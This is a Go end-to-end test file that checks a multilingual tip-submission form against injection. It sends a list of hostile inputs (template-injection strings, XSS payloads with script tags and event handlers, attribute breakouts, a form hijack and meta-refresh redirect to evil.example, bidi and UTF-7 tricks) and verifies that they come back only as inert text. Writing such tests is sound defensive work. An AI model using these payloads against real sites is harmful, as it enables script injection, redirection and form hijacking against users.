//go:build linux

package attack

import (
	"fmt"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"testing"

	"github.com/chromedp/chromedp"
	"golang.org/x/net/html"

	"lyktan/endtoend/harness"
)

// fields are the names that a form may have (tip.Form).
var fields = []string{"lang", "now", "what", "since", "last", "often", "street", "area", "who", "children", "danger", "unsafe", "guess", "how", "contact", "receipt",
	"subject", "idempotency_key"}

// typed are the fields that somebody writes in, and that come back as written.
var typed = []string{"what", "since", "last", "often", "street", "area", "who", "danger", "unsafe", "how", "contact", "receipt", "idempotency_key"}

// hostile is what somebody may write to make a page do something.
var hostile = []string{
	`{{.}} {{template "problem" .}} {{define "x"}}{{end}} {{.Tip.What}} {{/* */}} {{"{{"}} ${7*7} <%= 7*7 %> #{7*7} [[1]]`,
	`<script>window.ran=1</script><SCRIPT SRC=//evil.example></SCRIPT>`,
	`"><img src=x onerror="window.ran=1"><svg/onload=window.ran=1>`,
	`' autofocus onfocus='window.ran=1' x='`,
	"` onmouseover=window.ran=1 x=`",
	`</textarea></option></select></form><form action="https://evil.example/tips"><input name=what><plaintext>`,
	`</title></style></script><style>*{display:none}</style><base href="https://evil.example/"><meta http-equiv=refresh content="0;url=//evil.example">`,
	`javascript:window.ran=1//data:text/html,<script>window.ran=1</script>`,
	`--><!--><!-- x --!> <![CDATA[ x ]]> <?xml version="1.0"?> <!DOCTYPE x>`,
	`&lt;script&gt; &#60;script&#62; &amp;lt; &quot;&gt; &NotEqualTilde; &#x202e; &`,
	"\u202eevil\u202c \u202amixed\u202b \u202d \u2066a\u2067b\u2068c\u2069 \u200e\u200f\u061c <b>\u202e</b> \u202e\"><img src=x onerror=window.ran=1>",
	"صراخ \u202b<script>window.ran=1</script>\u202c في الليل \u2067\">\u2069 {{.}}",
	"\ufeff\u00ad\u200b\u200d\u2028\u2029\ufffd\U000e0041\U0001f3f4 a\u0301\u0336\u0489 \ufdfd <\u200bscript> ＜script＞ \u2039script\u203a",
	"+ADw-script+AD4-window.ran=1+ADw-/script+AD4- \x1b$B",
}

// What is written in a form comes back character for character as text and as
// values, and as nothing else: the page has the elements and the attributes of
// the page for harmless words, whatever is written and in which field.
func TestAttackWordsInPages(t *testing.T) {
	p := harness.StartProgram(t, harness.Shipped, t.TempDir(), "-limit-network", "100000")
	compared := 0
	for _, lang := range harness.Languages {
		for page, wrong := range map[string]struct {
			add    string
			status int
		}{
			"to be mended": {"&now=maybe", http.StatusUnprocessableEntity},
			"refused":      {"&lang=sv", http.StatusBadRequest},
		} {
			post := func(field, words string) (harness.Answer, *html.Node) {
				t.Helper()
				form := url.Values{}
				for _, name := range fields {
					if field == "all" || field == name {
						form.Set(name, words)
					}
				}
				if field != "lang" {
					form.Set("lang", lang)
				}
				add := wrong.add
				if form.Has("now") { // wrong by itself
					add = strings.Replace(add, "&now=maybe", "", 1)
				}
				got := p.Post(t, form.Encode()+add)
				if field != "lang" && got.Status != wrong.status {
					t.Errorf("%s, %s, %s: %d for %q", lang, page, field, got.Status, words)
				}
				root, err := html.Parse(strings.NewReader(got.Body))
				if err != nil {
					t.Fatal(err)
				}
				return got, root
			}
			for i, field := range append([]string{"all"}, fields...) {
				_, harmless := post(field, "harmless words")
				want := outline(harmless)
				for k, words := range hostile {
					if !full && i > 0 && (page == "refused" || (i+k)%len(hostile) > 0) {
						continue // all fields at once have had it
					}
					got, root := post(field, words)
					compared++
					if out := outline(root); !slices.Equal(out, want) {
						t.Errorf("%s, %s, %s: %q changes the page:\n%s", lang, page, field, words, firstDifference(out, want))
					}
					for _, name := range typed {
						back := strings.ReplaceAll(strings.TrimSpace(words), "\x1b", " ")
						if name == "what" {
							back = breaks.Replace(back)
						} else {
							back = spaces.Replace(back)
						}
						if page == "refused" && field == "idempotency_key" {
							continue // without a word there is nothing to send again
						}
						if (field == "all" || field == name) && !slices.Contains(valuesOf(root, name), back) {
							t.Errorf("%s, %s: %s does not come back as %q but %q", lang, page, name, back, valuesOf(root, name))
						}
					}
					if strings.Contains(got.Body, "ZgotmplZ") {
						t.Errorf("%s, %s, %s: %q meets a filter of html/template", lang, page, field, words)
					}
				}
			}
			// A name is not shown at all.
			for _, words := range hostile {
				name := url.QueryEscape(words)
				if got := p.Post(t, "lang="+lang+"&"+name+"=b"); got.Status != 422 || strings.Contains(got.Body, words) {
					t.Errorf("%s: as the name of a field, %q: %d", lang, words, got.Status)
				}
			}
		}
	}
	t.Logf("%d pages compared", compared)
	if n := len(list(t, p)); n != 0 {
		t.Errorf("%d tips", n)
	}
}

// What begins a line on some screens begins one, or is a space.
var breaks, spaces = strings.NewReplacer("\u2028", "\n", "\u2029", "\n"), strings.NewReplacer("\u2028", " ", "\u2029", " ")

// outline lists a page's nodes without what a form may change: text and the
// values of fields.
func outline(n *html.Node) []string {
	var lines []string
	for d := range n.Descendants() {
		switch d.Type {
		case html.ElementNode:
			line := d.Namespace + " " + d.Data
			for _, a := range d.Attr {
				if a.Key == "value" && d.Data == "input" {
					a.Val = ""
				}
				line += fmt.Sprintf(" %s:%s=%q", a.Namespace, a.Key, a.Val)
			}
			lines = append(lines, line)
		case html.CommentNode, html.DoctypeNode, html.RawNode, html.ErrorNode:
			lines = append(lines, fmt.Sprintf("%v %q", d.Type, d.Data))
		}
	}
	return lines
}

func firstDifference(got, want []string) string {
	for i := range got {
		if i >= len(want) || got[i] != want[i] {
			return fmt.Sprintf("%d: %q, harmless %q", i, got[i], append(want, make([]string, len(got))...)[i])
		}
	}
	return fmt.Sprintf("%d lines, harmless %d", len(got), len(want))
}

// valuesOf are the values of a page's fields of one name.
func valuesOf(root *html.Node, name string) []string {
	var values []string
	for n := range root.Descendants() {
		if n.Type != html.ElementNode || harness.Attribute(n, "name") != name {
			continue
		}
		switch n.Data {
		case "input":
			values = append(values, harness.Attribute(n, "value"))
		case "textarea":
			values = append(values, textOf(n))
		case "select":
			for option := range n.Descendants() {
				if option.Data == "option" {
					values = append(values, textOf(option))
				}
			}
		}
	}
	return values
}

func textOf(n *html.Node) string {
	var text strings.Builder
	for d := range n.Descendants() {
		if d.Type == html.TextNode {
			text.WriteString(d.Data)
		}
	}
	return text.String()
}

// A browser shows the same words without running, loading or complaining of
// anything, in a script that runs to the right and one that runs to the left.
func TestAttackWordsInABrowser(t *testing.T) {
	p := harness.Start(t)
	for _, lang := range harness.Directions {
		ctx := harness.Tab(t)
		tr := harness.Follow(t, ctx)
		line := strings.Join(hostile[:12], " ")
		harness.Run(t, ctx, chromedp.Navigate(p.URL+"/"+lang+"/skriv/"))
		harness.Evaluate[chromedp.Void](t, ctx, fmt.Sprintf(`(() => { const words = %s;
			for (const field of document.querySelectorAll('main [name]')) {
				if (field.matches('textarea, input[type=text]') && field.name !== 'subject') { field.value = words; }
			}
			const area = document.querySelector('[name=area]');
			area.append(new Option(words, words, true, true));
		})()`, quoted(line)))
		harness.Run(t, ctx, chromedp.Click(chromedp.CSS(`.send button`)), chromedp.WaitVisible(chromedp.CSS(`[href="#f-receipt"]`)))
		same := harness.Evaluate[string](t, ctx, fmt.Sprintf(`[...document.querySelectorAll('main textarea, main input[type=text]')].filter(f => f.name !== 'subject')
			.map(f => f.name + ':' + (f.value === %s)).join(' ')`, quoted(strings.TrimSpace(line))))
		if strings.Contains(same, "false") || strings.Count(same, "true") < 8 {
			t.Errorf("%s: what came back as it was written: %s", lang, same)
		}
		if ran := harness.Evaluate[string](t, ctx,
			`typeof window.ran + ' ' + document.querySelectorAll('img, main script:not(form.tip + script), base, main style').length`); ran != "undefined 0" {
			t.Errorf("%s: a script ran, or an element came in: %s", lang, ran)
		}
		requests, complaints := tr.Take()
		complaints = slices.DeleteFunc(complaints, func(c string) bool { return strings.Contains(c, "status of 422") }) // it notes the answer's status
		if len(requests) != 2 || len(complaints) > 0 {
			t.Errorf("%s: requests %v, complaints %v", lang, requests, complaints)
		}
	}
}

// quoted is a text as a literal of JavaScript.
func quoted(s string) string {
	var b strings.Builder
	b.WriteByte('"')
	for _, r := range s {
		fmt.Fprintf(&b, `\u{%x}`, r)
	}
	return b.String() + `"`
}
